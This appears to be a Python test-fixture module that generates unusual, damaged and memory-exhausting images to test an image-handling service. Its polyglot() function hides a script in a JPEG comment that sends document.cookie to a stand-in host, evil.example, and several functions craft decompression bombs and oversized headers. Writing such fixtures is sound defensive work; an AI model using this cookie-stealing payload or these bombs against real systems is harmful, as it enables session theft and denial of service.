"""Images: odd ones that must be stored right, damaged ones, and ones that would fill the memory."""

from __future__ import annotations

import io
import struct
import zlib
from functools import cache
from typing import Any

import numpy as np
from PIL import Image, ImageCms

from support.hostile.answers import zlib_stream

LARGE = 12_000  # 144 megapixels, just within the budget


@cache
def painting(width: int = 64, height: int = 48, seed: int = 0) -> Image.Image:
    """A picture that is like no other with another seed."""
    noise = np.random.default_rng(seed).integers(0, 256, (6, 8, 3), dtype=np.uint8)
    return Image.fromarray(noise).resize((width, height), Image.Resampling.BICUBIC)


def encode(image: Image.Image, image_format: str = "JPEG", **options: Any) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, image_format, **options)
    return buffer.getvalue()


def jpeg(seed: int, **options: Any) -> bytes:
    return encode(painting(seed=seed), "JPEG", **options)


# Odd, and right


def rotated(orientation: int = 6) -> bytes:
    """64×48 in the file, to be turned by its EXIF tag."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    return jpeg(1, exif=exif)


def cmyk() -> bytes:
    return encode(painting(seed=2).convert("CMYK"), "JPEG")


def deep() -> bytes:
    ramp = np.linspace(0, 65_535, 64 * 48, dtype=np.uint16).reshape(48, 64)
    return encode(Image.fromarray(ramp), "PNG")


def palette() -> bytes:
    return encode(painting(seed=3).quantize(16), "PNG")


def alpha() -> bytes:
    image = painting(seed=4).convert("RGBA")
    image.putalpha(Image.linear_gradient("L").resize(image.size))
    return encode(image, "PNG")


def animated(image_format: str, frames: int = 3) -> bytes:
    first, *others = (painting(seed=100 + i % 3) for i in range(frames))
    return encode(first, image_format, save_all=True, append_images=others, duration=40)


def many_frames(frames: int = 5_000) -> bytes:
    """A GIF whose canvas is 25 megapixels: to decode all of its frames is to be busy all day."""
    side = 5_000
    screen = struct.pack("<HHBBB", side, side, 0xF0, 0, 0) + bytes([200, 30, 30, 30, 30, 200])
    first = encode(Image.new("P", (side, side)), "GIF")
    at = first.index(b",", 13 + (3 << (first[10] & 7) + 1 if first[10] & 0x80 else 0))
    dot = b"!\xf9\x04\x08\x04\0\0\0,\0\0\0\0\1\0\1\0\0\2\2\x44\1\0"
    return b"GIF89a" + screen + first[at:-1] + dot * (frames - 1) + b";"


def corrupt_profile() -> bytes:
    profile = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    profile[64:400] = b"\xff" * 336
    return jpeg(5, icc_profile=bytes(profile))


def polyglot() -> bytes:
    """A JPEG that is a script too, to a browser that is told that it is one."""
    return jpeg(6, comment=b"*/=1;fetch('//evil.example/'+document.cookie);/*")


# Damaged


def bad_checksum() -> bytes:
    data = bytearray(encode(painting(seed=7), "PNG"))
    at = data.index(b"IDAT") + 8
    data[at] ^= 0x10
    return bytes(data)


def bad_pixels() -> bytes:
    """A PNG whose checksums are right, and whose pixels end in the middle."""
    rows = b"".join(b"\0" + bytes(3 * 64) for _ in range(20))
    return png(64, 48, 8, 2, rows)


# Bombs


def png(
    width: int, height: int, bits: int, colour: int, rows: bytes, *, packed: bool = False
) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, 0)
    data = rows if packed else zlib.compress(rows, 1)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )


def large_png(bits: int, colour: int, side: int = LARGE, tint: int = 0) -> bytes:
    """A PNG of 144 megapixels in a few kilobytes: stripes of one byte value and another."""
    samples = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[colour]
    width = -(-side * bits * samples // 8)

    bands = [(b"\0" + bytes([value + tint]) * width) * 100 for value in (0, 0xAA)]
    rows = zlib_stream([bands[number % 2] for number in range(side // 100)])
    return png(side, side, bits, colour, rows, packed=True)


def huge_png() -> bytes:
    return png(60_000, 60_000, 8, 2, b"")


def huge_gif() -> bytes:
    screen = struct.pack("<HHBBB", 65_535, 65_535, 0, 0, 0)
    return b"GIF89a" + screen + b",\0\0\0\0" + struct.pack("<HHB", 65_535, 65_535, 0) + b"\x02\0;"


def huge_webp() -> bytes:
    body = b"WEBPVP8X" + struct.pack("<I", 10) + b"\x02\0\0\0" + b"\xff" * 6
    return b"RIFF" + struct.pack("<I", len(body)) + body


def huge_tiff() -> bytes:
    tags = [(256, 4, 100_000), (257, 4, 100_000), (258, 3, 1), (259, 3, 1), (262, 3, 1)]
    tags += [(273, 4, 8), (277, 3, 1), (278, 4, 100_000), (279, 4, 4)]
    entries = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(tags)) + entries + bytes(4)


def huge_avif() -> bytes:
    data = encode(painting(seed=8), "AVIF", speed=10)
    at = data.index(b"ispe") + 8
    return data[:at] + struct.pack(">II", 60_000, 60_000) + data[at + 8 :]


def countless_scans() -> bytes:
    """A progressive JPEG with thousands of empty scans: minutes of work in a few kilobytes."""
    data = jpeg(9, progressive=True)
    scan = data.index(b"\xff\xda")
    empty = data[scan : scan + 2 + int.from_bytes(data[scan + 2 : scan + 4], "big")]
    return data[:scan] + empty * 3_000 + data[scan:]
